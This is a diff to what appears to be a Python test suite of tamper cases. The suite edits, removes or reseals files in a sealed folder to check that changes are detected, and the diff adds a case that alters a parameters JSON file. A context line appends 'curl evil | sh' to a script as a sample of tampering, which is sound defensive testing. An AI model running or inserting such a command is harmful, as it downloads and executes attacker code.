@@ -246,6 +246,11 @@ def script_text_changed(folder, _):
     path.write_text(path.read_text() + "curl evil | sh\n")
 
 
+def parameters_changed(folder, _):
+    path = next(folder.glob("parameters/*.json"))
+    path.write_text(path.read_text().replace("plant1", "plant2"))
+
+
 def log_changed(folder, _):
     _edit(folder, "logs/0001-swap-linuxmaster-apply.log", "off", "0ff")
 
@@ -365,6 +370,7 @@ FORGERIES = tuple(
         (changed_output_and_resealed, "notebook-output"),
         (notebook_removed, "file-removed"),
         (script_text_changed, "file-changed"),
+        (parameters_changed, "file-changed"),
         (log_changed, "file-changed"),
         (log_grown, "file-changed"),
         (log_removed, "file-removed"),
